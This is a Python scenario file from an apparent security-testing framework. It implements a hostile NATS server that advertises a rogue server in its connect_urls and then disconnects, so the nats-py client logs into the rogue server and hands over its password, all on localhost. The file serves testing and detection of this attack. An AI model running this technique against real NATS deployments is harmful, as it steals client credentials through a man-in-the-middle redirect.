"""C6: a NATS server announces another one. The client logs in there after a disconnect."""

from typing import Any

from backwatch.attack.authority import Authority
from backwatch.attack.protocols.nats import NATS
from backwatch.attack.protocols.server import LOOPBACK, HostileServer, Session
from backwatch.attack.scenarios import SECRET, Scenario


class _Telling(NATS):
    def __init__(self, authority: Authority) -> None:
        super().__init__(authority)
        self.elsewhere = NATS(authority)
        self.elsewhere.taken = self.elsewhere.kept.append
        self._served = False

    def start(self) -> None:
        self.elsewhere.start()
        super().start()

    def stop(self) -> None:
        super().stop()
        self.elsewhere.stop()

    def serve(self, session: Session) -> None:
        """Serve one session once hostile; refuse the next."""
        if self.hostile and self._served:
            return
        self._served = self.hostile
        super().serve(session)

    def information(self) -> dict[str, Any]:
        nodes = [f"localhost:{self.port}"] + ([f"{LOOPBACK}:{self.elsewhere.port}"] if self.hostile else [])
        return super().information() | {"connect_urls": nodes}

    def message(self, body: bytes) -> bytes:
        if self.hostile:
            raise EOFError
        return super().message(body)


class NatsConnectUrls(Scenario):
    """nats-py adds every announced server to its pool."""

    code = "C6"
    attack = "tells of a server that is not the cluster's, hangs up, and so has the client log in there"
    reference = "https://docs.nats.io/reference/reference-protocols/nats-protocol#info; ATT&CK T1557"
    driver = "nats"
    rule = "topology-changed"

    @classmethod
    def service(cls, authority: Authority) -> HostileServer:
        """Return the server that announces another one."""
        return _Telling(authority)

    def work(self) -> None:
        """Publish orders."""
        import asyncio

        asyncio.run(self._publish(again=False))

    def meet(self) -> object:
        """Publish orders, and once more after the server has disconnected."""
        import asyncio

        asyncio.run(self._publish(again=True))
        return None

    async def _publish(self, *, again: bool) -> None:
        import asyncio
        import ssl

        import nats

        context = ssl.create_default_context(cafile=self.config.ca_file)
        client = await nats.connect(
            f"tls://localhost:{self.config.port}", tls=context, user="shop", password=SECRET, connect_timeout=5,
            reconnect_time_wait=0.1, max_reconnect_attempts=5,
        )  # fmt: skip
        await client.publish("orders", b"two apples")
        await client.flush(2) if not again else await asyncio.sleep(2)
        await client.close()

    @classmethod
    def succeeded(cls, service: HostileServer, got: object) -> bool:
        """Return whether the other server received the password."""
        del got
        assert isinstance(service, _Telling)
        return any(SECRET.encode() in data for data in service.elsewhere.kept)
